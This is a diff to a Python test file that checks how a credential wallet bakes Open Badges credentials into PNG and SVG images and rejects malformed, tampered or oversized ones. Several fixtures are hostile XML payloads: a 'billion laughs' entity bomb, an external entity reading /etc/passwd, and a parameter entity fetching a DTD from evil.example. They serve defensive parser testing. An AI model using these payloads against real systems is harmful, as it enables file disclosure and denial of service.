@@ -6,6 +6,7 @@ for builders the field it names) or the exit code and a phrase of the message.
 
 from __future__ import annotations
 
+import struct
 from collections.abc import Callable
 from dataclasses import dataclass
 from datetime import datetime
@@ -14,11 +15,14 @@ from typing import Any
 import pytest
 
 from skillswallet.errors import (
+    AlreadyBakedError,
     AssessmentMethodError,
+    BakedImageError,
     BuilderError,
     LevelError,
     SelfAssessmentError,
 )
+from skillswallet.skills.baking import bake, extract
 from skillswallet.skills.builders import (
     EvidenceItem,
     NationalLevel,
@@ -30,8 +34,10 @@ from skillswallet.skills.builders import (
     self_assessment,
     skill_credential,
 )
+from skillswallet.verify import verify
 
-from ..vaultkit import HOLDER_DID, NOW
+from ..imagekit import IDAT, IEND, IHDR, PNG, SIGNATURE, SVG, itxt, png_chunk
+from ..vaultkit import HOLDER_DID, NOW, credential
 
 ISSUER_DID = "did:key:z6MkeoQNHBYV9jGNkuzAojDAAzJkEdJCrSWGswK6YKskFacZ"
 ADVICE = "http://data.europa.eu/esco/skill/045f71e6-0699-4169-8a54-9c6b96f3174d"
@@ -276,3 +282,198 @@ def test_builder_refuses_with_the_exact_typed_error(case: BuilderCase) -> None:
     assert type(info.value) is case.error
     assert info.value.field == case.field
     assert case.phrase in str(info.value)
+
+
+# --- baked images -------------------------------------------------------------------------
+
+SIGNED = credential()
+NOT_VERIFIED = "not verified"  # extracted, but verification fails
+OB = b'xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"'
+SVG_OPEN = b'<svg xmlns="http://www.w3.org/2000/svg" '
+
+
+def _tampered_png() -> bytes:
+    baked = bake(PNG, SIGNED)
+    start = len(SIGNATURE + IHDR + IDAT)
+    chunk = baked[start : len(baked) - len(IEND)]
+    text = chunk[8:-4].replace(b"Advising colleagues", b"Advising colleaguez", 1)
+    return baked[:start] + png_chunk(b"iTXt", text) + IEND  # a correct CRC: only the proof fails
+
+
+def _tampered_svg() -> bytes:
+    return bake(SVG, SIGNED).replace(b"Advising colleagues", b"Advising colleaguez", 1)
+
+
+@dataclass(frozen=True)
+class ImageCase:
+    id: str
+    image: Callable[[], bytes]
+    outcome: type[Exception] | str | None  # an error, NOT_VERIFIED, or None (no credential)
+    phrase: str = ""
+    operation: str = "extract"
+
+
+def _png(*chunks: bytes) -> Callable[[], bytes]:
+    return lambda: SIGNATURE + IHDR + b"".join(chunks) + IEND
+
+
+IMAGE_CASES = [
+    ImageCase("png without credential", lambda: PNG, None),
+    ImageCase("svg without credential", lambda: SVG, None),
+    ImageCase("png with an OB 2.0 assertion only", _png(itxt(b"{}", b"openbadges")), None),
+    ImageCase("tampered baked png", _tampered_png, NOT_VERIFIED),
+    ImageCase("tampered baked svg", _tampered_svg, NOT_VERIFIED),
+    ImageCase("truncated png", lambda: PNG[:-5], BakedImageError, "truncated"),
+    ImageCase("png cut after signature", lambda: SIGNATURE, BakedImageError, "truncated"),
+    ImageCase(
+        "png CRC mismatch",
+        _png(png_chunk(b"IDAT", b"x", crc=0)),
+        BakedImageError,
+        "chunk 'IDAT' at byte 33 has a wrong CRC",
+    ),
+    ImageCase(
+        "png chunk claiming 50 MB",
+        lambda: SIGNATURE + IHDR + struct.pack(">I", 50_000_000) + b"iTXt" + b"x" * 64,
+        BakedImageError,
+        "claims 50000000 bytes",
+    ),
+    ImageCase(
+        "png chunk claiming 4 GiB",
+        lambda: SIGNATURE + IHDR + b"\xff\xff\xff\xffIDAT",
+        BakedImageError,
+        "claims 4294967295 bytes",
+    ),
+    ImageCase(
+        "image over 32 MiB",
+        lambda: PNG + b"\0" * (32 * 2**20),
+        BakedImageError,
+        "larger than 32 MiB",
+    ),
+    ImageCase("png without IHDR", lambda: SIGNATURE + IEND, BakedImageError, "IHDR"),
+    ImageCase("png data after IEND", lambda: PNG + b"junk", BakedImageError, "4 bytes after"),
+    ImageCase(
+        "compressed credential chunk",
+        _png(itxt(b"x", compressed=True)),
+        BakedImageError,
+        "compressed",
+    ),
+    ImageCase(
+        "two credential chunks",
+        _png(itxt(b"{}"), itxt(b"{}")),
+        BakedImageError,
+        "more than one credential",
+    ),
+    ImageCase("credential not JSON", _png(itxt(b"{nope")), BakedImageError, "not valid JSON"),
+    ImageCase("credential a JSON array", _png(itxt(b"[1]")), BakedImageError, "JSON object"),
+    ImageCase("credential not UTF-8", _png(itxt(b"\xff{}")), BakedImageError, "not UTF-8"),
+    ImageCase("VC-JWT in png", _png(itxt(b"eyJh.eyJi.c2ln")), BakedImageError, "VC-JWT"),
+    ImageCase("GIF", lambda: b"GIF89a\x01\x00", BakedImageError, "neither PNG nor SVG"),
+    ImageCase(
+        "svg billion laughs",
+        lambda: (
+            b'<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
+            + SVG_OPEN
+            + b">&b;</svg>"
+        ),
+        BakedImageError,
+        "declares an XML entity",
+    ),
+    ImageCase(
+        "svg external entity",
+        lambda: (
+            b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + SVG_OPEN + b">&x;</svg>"
+        ),
+        BakedImageError,
+        "declares an XML entity",
+    ),
+    ImageCase(
+        "svg external parameter entity",
+        lambda: (
+            b'<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
+            + SVG_OPEN
+            + b"/>"
+        ),
+        BakedImageError,
+        "declares an XML entity",
+    ),
+    ImageCase(
+        "svg entity baked into",
+        lambda: b'<!DOCTYPE svg [<!ENTITY a "a">]>' + SVG_OPEN + b"/>",
+        BakedImageError,
+        "declares an XML entity",
+        "bake",
+    ),
+    ImageCase("svg not well-formed", lambda: SVG_OPEN + b">", BakedImageError, "well-formed"),
+    ImageCase("xml that is not svg", lambda: b"<html/>", BakedImageError, "root is not <svg>"),
+    ImageCase(
+        "svg with VC-JWT",
+        lambda: SVG_OPEN + OB + b'><openbadges:credential verify="a.b.c"/></svg>',
+        BakedImageError,
+        "VC-JWT",
+    ),
+    ImageCase(
+        "svg with two credentials",
+        lambda: (
+            SVG_OPEN
+            + OB
+            + b"><openbadges:credential>{}</openbadges:credential>"
+            + b"<openbadges:credential>{}</openbadges:credential></svg>"
+        ),
+        BakedImageError,
+        "more than one credential",
+    ),
+    ImageCase(
+        "svg in UTF-16",
+        lambda: SVG.decode().replace("UTF-8", "UTF-16").encode("utf-16"),
+        BakedImageError,
+        "UTF-16",
+    ),
+    ImageCase(
+        "svg in Latin-1",
+        lambda: b'<?xml version="1.0" encoding="ISO-8859-1"?>' + SVG_OPEN + b"/>",
+        BakedImageError,
+        "only UTF-8",
+    ),
+    ImageCase(
+        "svg binding openbadges elsewhere",
+        lambda: SVG_OPEN + b'xmlns:openbadges="urn:other"/>',
+        BakedImageError,
+        "binds the prefix openbadges",
+    ),
+    ImageCase(
+        "baking into a baked png",
+        lambda: bake(PNG, {"a": 1}),
+        AlreadyBakedError,
+        "already carries a credential",
+        "bake",
+    ),
+    ImageCase(
+        "baking into a baked svg",
+        lambda: bake(SVG, {"a": 1}),
+        AlreadyBakedError,
+        "already carries a credential",
+        "bake",
+    ),
+    ImageCase("baking into a GIF", lambda: b"GIF89a", BakedImageError, "neither", "bake"),
+    ImageCase("baking into a truncated png", lambda: PNG[:20], BakedImageError, "trunc", "bake"),
+]
+
+
+@pytest.mark.parametrize("case", IMAGE_CASES, ids=[c.id for c in IMAGE_CASES])
+def test_image_gives_the_exact_outcome(case: ImageCase) -> None:
+    image = case.image()
+    if isinstance(case.outcome, type):
+        with pytest.raises(BakedImageError) as info:
+            if case.operation == "bake":
+                bake(image, SIGNED)
+            else:
+                extract(image)
+        assert type(info.value) is case.outcome
+        assert case.phrase in str(info.value)
+        return
+    found = extract(image)
+    if case.outcome is None:
+        assert found is None
+    else:
+        assert found is not None
+        assert not verify(found, now=NOW).verified
